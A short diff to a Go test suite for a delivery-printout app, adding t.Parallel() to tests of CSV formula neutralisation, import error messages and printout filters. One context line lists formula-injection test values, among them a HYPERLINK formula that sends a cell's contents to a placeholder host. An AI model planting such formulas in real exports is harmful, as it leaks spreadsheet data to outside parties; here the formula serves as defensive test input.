@@ -19,6 +19,7 @@ var formulaNames = []string{`=HYPERLINK("http://x/?"&A1,"click")`, `+SUM(1+1)`, 
 // CSV printout back: each such cell comes back with a leading apostrophe,
 // while numbers (quantities, weights, coordinates) stay numbers.
 func TestCSVPrintoutsNeutraliseFormulas(t *testing.T) {
+	t.Parallel()
 	c := newTestCity(t, 2)
 	egg, rice := c.item("EGG"), c.item("RICE")
 	// Rename what the printouts print (products and points are saved by
@@ -96,6 +97,7 @@ func isNumber(s string) bool {
 // TestPointImportNamesTheLineOnce: an import error raised for a row names
 // its line once, whichever check raised it.
 func TestPointImportNamesTheLineOnce(t *testing.T) {
+	t.Parallel()
 	c := newTestCity(t, 1)
 	header := strings.Join(pickup.PointCSVColumns, ",") + "\n"
 	for name, row := range map[string]string{
@@ -119,6 +121,7 @@ func TestPointImportNamesTheLineOnce(t *testing.T) {
 // all); where a filter cannot apply (zone on route sheets, route on the pick
 // list) it is refused, never ignored.
 func TestPrintoutZoneAndRouteFilters(t *testing.T) {
+	t.Parallel()
 	c := newTestCity(t, 3)
 	egg, rice, dumpling := c.item("EGG"), c.item("RICE"), c.item("DUMPLING")
 	c.addVans("厢式车", 2)
